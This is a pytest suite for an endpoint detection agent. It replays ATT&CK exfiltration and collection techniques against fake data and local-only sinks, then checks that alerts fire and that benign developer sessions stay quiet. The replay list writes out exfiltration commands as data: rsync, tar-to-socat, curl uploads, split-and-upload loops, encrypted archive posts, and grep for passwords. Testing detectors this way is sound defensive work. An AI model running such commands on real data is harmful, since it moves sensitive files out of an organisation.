"""Exfiltration and collection techniques replayed for real against local sinks.

One real agent (audit on, `loopback_is_external`), one watched tree of
fake customer data and source code, and local sinks only: an HTTP server
(PUT/POST) on 127.0.0.1 run by the test, an rsync daemon on 127.0.0.1, bare
git repositories, a tmpfs "USB stick" under the agent's mount root. Each
replay is our own reproduction of the shape of a public Atomic Red Team
Linux test for the technique (not their text), run in a shell whose login
uid is set the way pam_loginuid does, so each replay has its own account
and detector state never crosses between replays. Each must raise the
expected alert for that account; the benign developer sessions (build,
tests, a package install from a local directory, git fetch and push to the
approved remote, editor autosave, ordinary HTTP use) must raise none.

The coverage table (technique, caught, alert latency from the end of the
replay to the alert being in the store) is printed at the end.
"""

from __future__ import annotations

import contextlib
import http.server
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar

import pytest
import yaml

from sentinel import resources
from sentinel.endpoint.sources import audit
from tests.endpoint.conftest import ROOT, AgentEnv

pytestmark = [pytest.mark.root, pytest.mark.inotify]


def _skip_reason() -> str:
    if os.geteuid() != 0:
        return "the replays need root: audit gives the login uid, mounts need root"
    reason = audit.unavailable_reason()
    if reason:
        return reason
    for tool in ("rsync", "curl", "socat", "tar", "zip", "gpg", "openssl", "split", "git", "ss"):
        if shutil.which(tool) is None:
            return f"{tool} is not installed (apt-get install -y {tool})"
    return ""


# account id -> login uid; every replay and benign session runs under its own.
ACCOUNTS = {
    "t1048-rsync": 5001, "t1048-socat": 5002, "t1048-httpserver": 5003, "t1041-custom": 5004,
    "t1567-curl-put": 5005, "t1567-git": 5006, "t1052-archive-usb": 5007, "t1030-split": 5008,
    "t1560-zip": 5009, "t1560-openssl": 5010, "t1119-find": 5011, "t1005-grep": 5012,
    "t1074-stage": 5013, "t1219-vnc": 5014, "t1572-tunnel": 5015, "t1052-usb": 5016,
    "dev-build": 6001, "dev-tests": 6002, "dev-install": 6003, "dev-git": 6004, "dev-editor": 6005,
    "dev-http": 6006,
}  # fmt: skip
BENIGN = tuple(a for a in ACCOUNTS if a.startswith("dev-"))


@dataclass(frozen=True, slots=True, kw_only=True)
class Replay:
    technique: str
    account: str
    detector: str
    attack: str  # the ATT&CK id the alert must carry ('' = any)
    script: str
    description: str


class _Sink(http.server.BaseHTTPRequestHandler):
    received: ClassVar[list[int]] = []

    def _swallow(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        if not length and self.headers.get("Transfer-Encoding") == "chunked":
            while (size := int(self.rfile.readline().strip() or b"0", 16)) > 0:
                body += self.rfile.read(size + 2)[:size]
            self.rfile.readline()
        self.received.append(len(body))
        self.send_response(201)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_PUT = do_POST = _swallow

    def do_GET(self) -> None:
        payload = b"ok\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextlib.contextmanager
def _http_sink() -> Iterator[int]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Sink)
    thread = threading.Thread(target=server.serve_forever, name="test-http-sink", daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


@contextlib.contextmanager
def _tcp_sink() -> Iterator[int]:
    """A raw TCP listener that reads whatever is sent (nc/socat's far end)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                with contextlib.suppress(OSError):
                    while conn.recv(1 << 16):
                        pass

    thread = threading.Thread(target=serve, name="test-tcp-sink", daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1]
    finally:
        stop.set()
        thread.join(5)
        server.close()


@contextlib.contextmanager
def _rsync_daemon(base: Path) -> Iterator[int]:
    drop = base / "rsync-drop"
    drop.mkdir()
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    conf = base / "rsyncd.conf"
    conf.write_text(
        f"use chroot = no\n[drop]\n  path = {drop}\n  read only = no\n  uid = root\n  gid = root\n"
    )
    proc = subprocess.Popen(
        ["rsync", "--daemon", "--no-detach", f"--port={port}", "--address=127.0.0.1", f"--config={conf}"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 0.2):
                break
            time.sleep(0.05)
        yield port
    finally:
        proc.terminate()
        proc.wait(10)


@contextlib.contextmanager
def _usb(mount_root: Path) -> Iterator[Path]:
    usb = mount_root / "USB"
    usb.mkdir(parents=True)
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=32m", "sentinel-replay", str(usb)]).returncode:
        pytest.skip("tmpfs cannot be mounted here")
    try:
        yield usb
    finally:
        subprocess.run(["umount", "-l", str(usb)], check=False)


@contextlib.contextmanager
def _tun(name: str) -> Iterator[bool]:
    made = subprocess.run(["ip", "tuntap", "add", "dev", name, "mode", "tun"], capture_output=True)
    try:
        yield made.returncode == 0
    finally:
        if made.returncode == 0:
            subprocess.run(["ip", "tuntap", "del", "dev", name, "mode", "tun"], capture_output=True)


def _data(tree: Path) -> None:
    customers = tree / "customers"
    customers.mkdir(parents=True)
    for i in range(40):
        # Incompressible, so archives of it stay above the staging size floor.
        (customers / f"account-{i:03}.csv").write_bytes(os.urandom(12_000))
    for name in ("hr", "finance"):
        (tree / name).mkdir()
        for i in range(40):
            (tree / name / f"record-{i:03}.txt").write_text(f"employee {i} salary {i * 1000}\n" * 50)
    (tree / "export.csv").write_bytes(os.urandom(600_000))
    app = tree / "app"
    (app / "src" / "app").mkdir(parents=True)
    (app / "tests").mkdir()
    (app / "src" / "app" / "__init__.py").write_text("def add(a, b):\n    return a + b\n")
    (app / "tests" / "test_add.py").write_text(
        "import unittest\nfrom app import add\n\nclass T(unittest.TestCase):\n"
        "    def test_add(self):\n        self.assertEqual(add(1, 2), 3)\n"
    )
    (app / "pyproject.toml").write_text(
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
        '[project]\nname = "replayapp"\nversion = "0.1"\n[tool.setuptools.packages.find]\nwhere = ["src"]\n'
    )


def _replays(
    base: Path, tree: Path, http_port: int, rsync_port: int, tcp_port: int, usb: Path
) -> list[Replay]:
    sink = f"http://127.0.0.1:{http_port}"
    tmp = base / "tmp"
    tmp.mkdir()
    bare = base / "exfil.git"
    tools = base / "bin"
    tools.mkdir()
    for name in ("x11vnc", "ngrok"):
        shutil.copy("/bin/sleep", tools / name)
    return [
        _r("T1048", "t1048-rsync", "transfer-tool", "T1048",
           "rsync of the customer tree to an rsync daemon",
           f"rsync -a {tree}/customers/ rsync://127.0.0.1:{rsync_port}/drop/"),
        _r("T1048.003", "t1048-socat", "archive-then-send", "T1048.003",
           "tar of the tree piped to a raw TCP socket (socat)",
           f"tar czf - -C {tree} customers | socat -u - TCP:127.0.0.1:{tcp_port}"),
        _r("T1048.003", "t1048-httpserver", "transfer-tool", "T1048.003",
           "python -m http.server publishing the watched tree",
           f"cd {tree} && timeout 1 python3 -m http.server 0 --bind 127.0.0.1 >/dev/null 2>&1; true"),
        _r("T1041", "t1041-custom", "egress-volume", "T1041",
           "a home-made client (python urllib) POSTing an export: no known tool, only bytes",
           f"python3 -c \"import urllib.request as u;"
           f"u.urlopen(u.Request('{sink}/c2', data=open('{tree}/export.csv','rb').read()*3))\""),
        _r("T1567", "t1567-curl-put", "transfer-tool", "T1048.003",
           "curl --upload-file of the export to a web service",
           f"curl -s --upload-file {tree}/export.csv {sink}/share/export.csv -o /dev/null"),
        _r("T1567.001", "t1567-git", "unapproved-push", "T1567.001",
           "git push of a watched repository to an unapproved bare repository",
           f"git init -q --bare {bare} && cd {tree}/app && git init -q && git add -A && "
           f"git -c user.name=x -c user.email=x@x commit -qm x && git push -q file://{bare} HEAD:main"),
        _r("T1052.001", "hostowner", "mass-copy-out", "T1052.001",
           "the customer tree copied to a removable drive",
           f"cp -r {tree}/customers {usb}/"),
        _r("T1030", "t1030-split", "archive-then-send", "T1030",
           "export split into 200 kB chunks, each uploaded",
           f"split -b 200k {tree}/export.csv {tmp}/chunk_ && "
           f"for c in {tmp}/chunk_*; do curl -s -T $c {sink}/drop/ -o /dev/null; done"),
        _r("T1560.001", "t1560-zip", "staging", "T1560",
           "zip of the customer tree written inside the watched tree",
           f"cd {tree} && zip -qr {tree}/customers-backup.zip customers"),
        _r("T1560.001", "t1560-openssl", "archive-then-send", "T1048.003",
           "tar, openssl enc, then curl -F of the encrypted file",
           f"tar czf {tmp}/c.tgz -C {tree} customers && openssl enc -aes-256-cbc -pbkdf2 -k pw "
           f"-in {tmp}/c.tgz -out {tmp}/c.enc && curl -s -F f=@{tmp}/c.enc {sink}/up -o /dev/null"),
        _r("T1119", "t1119-find", "bulk-read", "T1005",
           "find -exec cp of every csv into a collection directory",
           f"mkdir -p {tmp}/collect && find {tree} -name '*.csv' -exec cp {{}} {tmp}/collect/ \\;"),
        _r("T1005", "t1005-grep", "bulk-read", "T1005",
           "grep -r through the tree for secrets",
           f"grep -rl -e password -e secret {tree}/hr >/dev/null; true"),
        _r("T1074.001", "t1074-stage", "bulk-read", "T1005",
           "the tree copied to a local staging directory",
           f"cp -r {tree}/finance {tmp}/staged"),
        _r("T1219", "t1219-vnc", "remote-access", "T1219",
           "a VNC server binary started on the host",
           f"{tools}/x11vnc 0.2"),
        _r("T1572", "t1572-tunnel", "transfer-tool", "T1572",
           "an ngrok tunnel started",
           f"{tools}/ngrok 0.2"),
    ]  # fmt: skip


def _r(technique: str, account: str, detector: str, attack: str, description: str, script: str) -> Replay:
    return Replay(
        technique=technique, account=account, detector=detector, attack=attack, description=description,
        script=script,
    )  # fmt: skip


def _benign(base: Path, tree: Path, http_port: int, approved: Path) -> dict[str, str]:
    app = tree / "app2"
    shutil.copytree(tree / "app", app, ignore=shutil.ignore_patterns(".git"))
    return {
        "dev-build": f"cd {app} && python3 -m compileall -q src && mkdir -p dist && "
        f"tar czf dist/app-0.1.tar.gz src pyproject.toml",
        "dev-tests": f"cd {app} && PYTHONPATH=src python3 -m unittest discover -s tests 2>/dev/null",
        "dev-install": f"pip install -q --no-index --no-deps --no-build-isolation --target {base}/site {app} "
        f">/dev/null 2>&1; true",
        "dev-git": f"git init -q --bare {approved} && git clone -q {approved} {tree}/work && "
        f"cd {tree}/work && echo x > a.txt && git add a.txt && "
        f"git -c user.name=d -c user.email=d@x commit -qm a && "
        f"git push -q origin HEAD:main && git fetch -q origin",
        "dev-editor": f'cd {app}/src/app && for i in $(seq 20); do echo "# $i" >> .__init__.py.swp; '
        f'cp __init__.py .__init__.py~ && echo "x = $i" >> __init__.py; done',
        "dev-http": f"cd {app} && curl -s http://127.0.0.1:{http_port}/ -o /dev/null && "
        f"curl -s -d '{{\"ok\": 1}}' http://127.0.0.1:{http_port}/api -o /dev/null",
    }


def _run_as(uid: int, script: str) -> float:
    """Run `script` in a shell whose login uid is `uid`; return when it ended (monotonic)."""
    done = subprocess.run(
        ["sh", "-c", f"echo {uid} > /proc/self/loginuid && {script}"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, f"{script}\n{done.stderr}"
    return time.monotonic()


def _configure(env: AgentEnv) -> None:
    accounts = [{"id": a, "role": "contractor", "uids": [u]} for a, u in ACCOUNTS.items()]
    accounts.append({"id": "hostowner", "role": "contractor"})
    for account in accounts:
        if account["id"] == "dev-git":
            account["approved_remotes"] = [f"localhost{env.base}/approved.git"]
    env.identities.write_text(yaml.safe_dump({"accounts": accounts}))
    rules = yaml.safe_load((resources.rules_dir() / "activity.yaml").read_text())
    rules["thresholds"].update(
        {
            "bulk-read": {"window_seconds": 30, "floor": 25, "k": 5},
            "mass-copy-out": {"window_seconds": 30, "files": 10, "bytes": 10_000_000},
            "staging": {"min_bytes": 100_000},
            "off-hours-bulk": {"window_seconds": 30, "floor": 100_000},
            "egress-volume": {"window_seconds": 60, "floor": 3_000_000, "first_seen_bytes": 1_000_000},
            "archive-then-send": {"window_seconds": 300, "pipe_seconds": 10, "send_bytes": 1_000_000},
        }
    )
    rules["overrides"] = {"roles": {}, "accounts": {}}
    env.activity.write_text(yaml.safe_dump(rules))
    env.write_config(
        audit="on",
        account="hostowner",
        loopback_is_external=True,
        network_interval=0.5,
        mount_roots=[str(env.base / "media")],
    )


@pytest.mark.skipif(bool(_skip_reason()), reason=_skip_reason() or "root and audit available")
def test_replayed_techniques_alert_and_developer_sessions_do_not(env: AgentEnv) -> None:
    tree = env.tree
    _data(tree)
    _configure(env)
    rows: list[tuple[str, str, str, str, str]] = []
    with (
        _http_sink() as http_port,
        _rsync_daemon(env.base) as rsync_port,
        _tcp_sink() as tcp_port,
        _usb(env.base / "media") as usb,
        _tun("tunsntl0") as tun_made,
    ):
        agent = env.agent().start()
        replays = _replays(env.base, tree, http_port, rsync_port, tcp_port, usb)
        missed = []
        for replay in replays:
            # Writes to removable media are outside audit's rules: the host's account owns them.
            _run_as(ACCOUNTS.get(replay.account, ACCOUNTS["t1052-usb"]), replay.script)
            latency = _wait_alert(env, replay, timeout=10.0)
            caught = latency is not None
            shown = "-" if latency is None else f"{latency:.2f} s" if latency >= 0.05 else "< 0.05 s"
            rows.append(
                (replay.technique, replay.detector, "yes" if caught else "NO", shown, replay.description)
            )
            if not caught:
                missed.append(replay)
        # The VPN interface present at agent start is a laptop-farm signal too.
        if tun_made:
            vpn = _wait_alert(
                env,
                Replay(technique="T1090", account="hostowner", detector="remote-access", attack="T1090",
                       script="", description=""),
                timeout=5.0,
            )  # fmt: skip
            rows.append(("T1090", "remote-access", "yes" if vpn is not None else "NO", "at start",
                         "a tun interface (VPN) up on the host"))  # fmt: skip
            assert vpn is not None, "the tun interface raised no remote-access alert"
        benign = _benign(env.base, tree, http_port, env.base / "approved.git")
        for account, script in benign.items():
            _run_as(ACCOUNTS[account], script)
        time.sleep(3)  # windows and the writer's batches: give any false alert time to land
        assert agent.stop() == 0
    noisy = [a for a in env.alerts() if a.account in BENIGN]
    _print_table(rows, noisy)
    assert not noisy, [(a.account, a.detector, a.message, a.evidence) for a in noisy]
    if missed:
        seen = {
            (e.kind, e.action, e.account, e.attributed_by)
            for e in env.events()
            if e.kind in ("file", "process", "transfer")
        }
        raise AssertionError(
            f"replays without their alert: {[(r.technique, r.account) for r in missed]}; "
            f"events seen: {sorted(seen)[:60]}; alerts: {[(a.account, a.detector) for a in env.alerts()]}"
        )
    shown = subprocess.run(
        [sys.executable, "-m", "sentinel", "alerts", "--store", env.store_url, "--since", "1h"],
        capture_output=True, text=True, timeout=60, env={**os.environ, "PYTHONPATH": str(ROOT)},
    )  # fmt: skip
    assert shown.returncode == 0, shown.stderr
    for replay in replays:
        assert replay.account in shown.stdout, f"`sentinel alerts` does not show {replay.account}"
    assert "command: rsync -a" in shown.stdout and "staged (" in shown.stdout
    for replay in replays:
        (alert, *_) = [a for a in env.alerts(replay.detector) if a.account == replay.account]
        assert alert.evidence and alert.message
        if replay.account != "hostowner":
            assert any("audit-auid" in line for line in alert.evidence) or replay.detector in (
                "bulk-read", "staging", "unapproved-push", "mass-copy-out",
            ), alert.evidence  # fmt: skip


def _wait_alert(env: AgentEnv, replay: Replay, timeout: float) -> float | None:
    start = time.monotonic()
    while time.monotonic() - start < timeout:
        found = [
            a
            for a in env.alerts(replay.detector)
            if a.account == replay.account and (not replay.attack or a.attack == replay.attack)
        ]
        if found:
            return time.monotonic() - start  # ~0: already stored when the replay's command ended
        time.sleep(0.05)
    return None


def _print_table(rows: list[tuple[str, str, str, str, str]], noisy: list[object]) -> None:
    lines = [
        "",
        "exfiltration/collection replay coverage (real agent, audit on, local sinks)",
        f"{'technique':<11} {'detector':<18} {'caught':<6} {'latency':<9} replay",
    ]
    lines += [f"{t:<11} {d:<18} {c:<6} {lat:<9} {desc}" for t, d, c, lat, desc in rows]
    lines.append(f"benign developer sessions: {len(BENIGN)}, alerts on them: {len(noisy)}")
    table = "\n".join(lines)
    target = os.environ.get("SENTINEL_COVERAGE_TABLE")
    if target:
        Path(target).write_text(table + "\n")
    print(table)


@pytest.mark.skipif(os.geteuid() != 0, reason="socket bytes at close (ss -E) need root")
def test_without_audit_the_poller_and_socket_bytes_still_alert(env: AgentEnv) -> None:
    """audit off: a long-running remote-control tool is seen by the poller, bytes by the socket stream."""
    _data(env.tree)
    _configure(env)
    env.write_config(audit="off", account="hostowner", loopback_is_external=True, process_interval=0.2)
    tools = env.base / "bin"
    tools.mkdir()
    shutil.copy("/bin/sleep", tools / "rustdesk")
    with _http_sink() as port:
        agent = env.agent().start()
        subprocess.run([str(tools / "rustdesk"), "1"], check=True)
        upload = (f"import urllib.request as u; u.urlopen(u.Request('http://127.0.0.1:{port}/x', "
                  f"data=open('{env.tree}/export.csv','rb').read()*3))")  # fmt: skip
        subprocess.run([sys.executable, "-c", upload], check=True)
        env.wait_until(
            lambda: env.alerts("remote-access") and env.alerts("egress-volume"), what="both alerts"
        )
        assert agent.stop() == 0
    (tool,) = [a for a in env.alerts("remote-access") if "rustdesk" in a.message]
    assert tool.account == "hostowner" and any("source=poll" in line for line in tool.evidence)
    (volume,) = env.alerts("egress-volume")
    assert volume.account == "hostowner" and volume.attack == "T1041"
    assert any("host-account" in line for line in volume.evidence)
